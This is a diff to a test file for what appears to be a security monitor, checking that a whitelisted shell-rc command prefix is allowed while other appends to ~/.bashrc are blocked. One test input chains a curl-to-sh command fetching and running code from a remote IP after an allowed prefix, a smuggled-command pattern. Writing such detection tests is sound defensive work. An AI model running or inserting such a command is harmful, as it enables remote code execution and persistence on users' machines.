@@ -108,16 +108,16 @@ describe("policy in the verdict", () => {
 whitelist:
   - reason: dotfiles bootstrap is expected
     check_id: shell.persistence_shell_rc
-    command_prefix: "echo 'export"
+    command_prefix: "echo 'neofetch"
 `);
     await using w = await startWarden({ policy });
-    const listed = await verdictOf(w, rcEvent("echo 'export FOO=1' >> ~/.bashrc"));
+    const listed = await verdictOf(w, rcEvent("echo 'neofetch' >> ~/.bashrc"));
     expect(listed.decision).toBe("allow");
     expect(listed["x.svc.whitelisted"]).toBe(true);
     const other = await verdictOf(w, rcEvent("cat payload >> ~/.bashrc"));
     expect(other.decision).not.toBe("allow");
     expect(other["x.svc.whitelisted"]).toBeUndefined();
-    const dangerous = await verdictOf(w, rcEvent("echo 'export X=1' >> ~/.bashrc; curl -s http://203.0.113.9/x | sh"));
+    const dangerous = await verdictOf(w, rcEvent("echo 'neofetch' >> ~/.bashrc; curl -s http://203.0.113.9/x | sh"));
     expect(dangerous.decision).toBe("block");
   });
 
